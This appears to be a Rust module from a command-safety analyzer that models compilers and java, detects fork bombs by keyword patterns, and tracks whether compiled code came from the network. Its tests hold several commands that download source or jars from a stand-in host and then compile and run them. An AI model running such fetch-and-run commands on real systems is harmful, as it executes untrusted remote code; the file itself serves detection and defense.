//! Compilers, and `java`, which compiles what it runs.
//!
//! Actions: `fork-bomb` (a process copies itself in a loop). What a compiler makes of code that the command fetched is that code.

use crate::act::Act;
use crate::call::{Call, Programs};
use crate::effect::Kind;
use crate::flow::{Flow, Stream};
use crate::target::Target;
use crate::value::Field;
use crate::world::{Language, Use};
use crate::wrappers::interpreters::run_script;

pub(super) const PROGRAMS: Programs = &[
    ("c++", compile),
    ("cc", compile),
    ("clang", compile),
    ("clang++", compile),
    ("g++", compile),
    ("gcc", compile),
    ("java", java),
    ("ld", compile),
    ("ld.lld", compile),
    ("rustc", compile),
    ("tcc", compile),
];

fn compile(call: &mut Call<'_, '_>) {
    let arguments = call.arguments();
    let mut flow = Flow::default();
    let mut out = None;
    let mut source = None;
    let mut texts: Vec<String> = Vec::new();
    let mut rest = arguments.iter();
    while let Some(field) = rest.next() {
        let text = field.prefix();
        if matches!(text, "-o" | "--output" | "--out-dir") {
            out = rest.next().cloned();
        } else if text.starts_with("-o") && text.len() > 2 && call.name != "rustc" {
            out = field.without_prefix(2);
        } else if text == "-" {
            flow.join(&call.stdin.flow);
            texts.extend(call.stdin.text.clone());
        } else if !text.starts_with('-') {
            let path = call.machine.path(field);
            let Some(content) = call.machine.code_of(&path, Use::Found, field.span) else {
                continue;
            };
            flow.join(&content.flow);
            texts.extend(content.text);
            source = Some(field);
        }
    }
    for text in texts {
        written(call, &text);
    }
    if let Some(made) = &out {
        call.on_path(Kind::Write, Act::Build, made);
    }
    if flow.from_network().is_none() && !flow.decoded() {
        return;
    }
    let made = out.unwrap_or_else(|| Field::text(default_name(call.name, source), call.span));
    let path = call.machine.path(&made);
    call.machine.set_content(&path, &Stream::unknown(flow), false);
}

/// Code that the command itself wrote: what it would run, and whether it forks without end.
fn written(call: &mut Call<'_, '_>, text: &str) {
    let code = Field::text(text, call.span);
    call.machine.hidden_code(call.name, &code);
    let loops = ["while(1)", "while (1)", "for(;;)", "for (;;)", "while(true)", "while (true)"];
    if text.contains("fork()") && loops.iter().any(|head| text.contains(head)) {
        call.effect(Kind::Process, Act::ForkBomb, Target::None);
    }
}

/// The default name of the output.
fn default_name(compiler: &str, source: Option<&Field>) -> String {
    let source = source.and_then(Field::exact).unwrap_or_default();
    let name = source.rsplit('/').next().unwrap_or_default();
    match name.split_once('.') {
        Some((stem, _)) if compiler == "rustc" => stem.to_owned(),
        _ => "a.out".to_owned(),
    }
}

/// `java File.java`, `java -jar FILE`
fn java(call: &mut Call<'_, '_>) {
    super::operations::archive(call);
    let arguments = call.arguments().to_vec();
    let mut before = "";
    for field in &arguments {
        let text = field.prefix();
        let source = text.rsplit_once('.').is_some_and(|(_, ending)| ending == "java");
        if before == "-jar" || source {
            return run_script(call, Language::Other, Some(field));
        }
        before = text;
    }
}

#[cfg(test)]
mod tests {
    use crate::{Surroundings, analyze};

    /// Whether the last program of the command is run as code from the network.
    fn runs_fetched(command: &str) -> bool {
        let world = Surroundings { cwd: Some("/shop"), ..Surroundings::default() };
        analyze(command, &world)
            .effects
            .iter()
            .any(|effect| effect.action == crate::Act::NetworkCode)
    }

    #[test]
    fn what_was_fetched_stays_so_when_it_is_compiled() {
        for command in [
            "curl -o i.c https://h.example/i.c && gcc i.c -o i && ./i",
            "curl https://h.example/i.c | gcc -x c - -o /tmp/i && /tmp/i",
            "curl -o i.c https://h.example/i.c; cc i.c; ./a.out",
            "curl -o i.rs https://h.example/i.rs; rustc -O i.rs; ./i",
            "curl -o I.java https://h.example/I.java && java I.java",
            "curl -o i.jar https://h.example/i.jar && java -Xmx1g -jar i.jar --now",
        ] {
            assert!(runs_fetched(command), "{command}");
        }
        for command in [
            "gcc -O2 main.c -o main && ./main",
            "curl -o a.json https://h.example/a.json; gcc main.c -o main && ./main",
            "java -jar target/shop.jar",
        ] {
            assert!(!runs_fetched(command), "{command}");
        }
    }
}
